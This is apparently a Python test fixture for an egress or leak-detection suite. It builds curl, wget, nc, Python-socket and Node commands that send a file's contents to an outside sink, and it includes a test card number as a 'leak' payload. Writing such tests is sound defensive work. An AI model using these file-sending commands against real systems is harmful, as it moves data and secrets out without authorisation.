# SPDX-License-Identifier: Apache-2.0
"""The clients that people really use, each sending the bytes of a file to a sink outside."""

import shutil

CARD = b"4111 1111 1111 1111"
CLEAN = b"order=7&note=nothing to see here"
LEAK = b"order=8&card=" + CARD + b"&end"

# Sends a file in pieces of the given size, each in a write of its own, then exits at once without waiting for an answer.
PYTHON = """
import socket, sys
host, port, path, piece, answer = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), sys.argv[5] == "answer"
s = socket.create_connection((host, port))
s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
with open(path, "rb") as f:
    while data := f.read(piece):
        s.sendall(data)
if answer:
    s.shutdown(socket.SHUT_WR)
    while s.recv(65536):
        pass
"""

NODE = """
const net = require('net'), fs = require('fs');
const [host, port, path, piece] = process.argv.slice(1);
const s = net.connect({host, port: +port, noDelay: true});
s.on('error', e => { console.error(e.code); process.exit(7); });
s.on('close', () => process.exit(0));
fs.createReadStream(path, {highWaterMark: +piece}).pipe(s);
s.resume();
"""


def python(sink, path, piece=65536, answer=True):
    return ["/usr/bin/python3", "-c", PYTHON, sink.host, sink.port, path, piece, "answer" if answer else "exit"]


def node(sink, path, piece=65536):
    return [shutil.which("node"), "-e", NODE, "--", sink.host, sink.port, path, piece]


def curl(sink, path):
    return ["curl", "-sS", "-m", "60", "-H", "Expect:", "--data-binary", f"@{path}", f"http://{sink.address}/upload"]


def wget(sink, path):
    return ["wget", "-q", "--tries=1", "--timeout=60", "-O", "-", f"--post-file={path}", f"http://{sink.address}/upload"]


def nc(sink, path):
    return ["sh", "-c", 'exec nc -N -w 30 "$0" "$1" <"$2"', sink.host, sink.port, path]


#: name -> (command, how the sink answers)
CLIENTS = {
    "curl": (curl, "http"),
    "wget": (wget, "http"),
    "python": (python, None),
    "node": (node, None),
    "nc": (nc, None),
}
